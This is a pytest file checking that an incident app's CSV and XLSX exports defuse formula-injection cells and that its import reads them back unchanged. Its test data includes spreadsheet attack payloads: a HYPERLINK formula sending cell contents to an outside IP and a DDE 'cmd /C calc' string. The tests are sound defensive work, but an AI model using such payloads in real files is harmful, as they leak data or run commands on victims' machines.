"""Formula injection: CSV and XLSX exports neutralise text cells that begin with =, +, -, @, tab or CR (a
leading ') and the ledger import reads such a cell back exactly as it was stored."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from gis.linref import offset_point
from patrol_app.io.cells import neutralise, restore
from patrol_app.io.exports import ExportFilter, export
from patrol_app.io.ledger import read_ledger
from patrol_app.services import field
from patrol_app.services.records import import_ledger
from patrol_app.services.users import get_user
from patrol_app.storage.db import session_scope
from patrol_app.storage.models import Incident

DAY = dt.date(2020, 1, 6)  # before the demo's years: the export holds only these incidents
HOSTILE = {
    "description": '=HYPERLINK("http://198.51.100.7/?q="&A1,"点我")',
    "party": "@SUM(1+1)*cmd|' /C calc'!A0",
    "party_phone": "+86 138 1234 5678",
}
OTHERS = ["-2+3", "'=already quoted", "''two quotes", "'plain", "plain", "\tTAB", "\rCR", "=", "'", ""]


@pytest.mark.parametrize("value", list(HOSTILE.values()) + OTHERS)
def test_cell_round_trip_is_exact(value):
    out = neutralise(value)
    assert restore(out) == value
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))


def _log(store) -> list[int]:
    net = store.network()
    ids = []
    with session_scope() as s:
        officer = get_user(s, "officer")
        for i, (k, v) in enumerate(HOSTILE.items()):
            lon, lat = offset_point(net, "X002", 1000 + 300 * i, 6, "left")
            raw = {
                "found_at": dt.datetime.combine(DAY, dt.time(9, i)),
                "type": "materials",
                "lon": lon,
                "lat": lat,
                k: v,
            }
            ids.append(field.log_incident(s, officer, raw).id)
    return ids


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_and_the_import_reads_them_back_unchanged(store, tmp_path, fmt):
    _log(store)
    flt = ExportFilter(DAY, DAY)
    with session_scope() as s:
        res = export(s, get_user(s, "leader"), "incidents", fmt, tmp_path / f"x.{fmt}", flt)
    assert res.rows == 3
    if fmt == "csv":
        cells = [c for row in csv.reader(res.path.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    else:
        ws = load_workbook(res.path, read_only=True).worksheets[0]
        cells = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    for v in HOSTILE.values():
        assert "'" + v in cells and v not in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the import reads each cell back as stored
    sheets = read_ledger(res.path)
    got = {k: {r.values[k] for r in sheets[0].rows} for k in HOSTILE}
    for k, v in HOSTILE.items():
        assert v in got[k]
    with session_scope() as s:
        before = s.execute(select(Incident.id)).scalars().all()
        r = import_ledger(s, get_user(s, "leader"), res.path)
        assert r.ok, [e.render("en") for e in r.errors]
        new = s.execute(select(Incident).where(Incident.id.not_in(before))).scalars().all()
    assert {k: {getattr(i, k) for i in new} - {""} for k in HOSTILE} == {k: {v} for k, v in HOSTILE.items()}
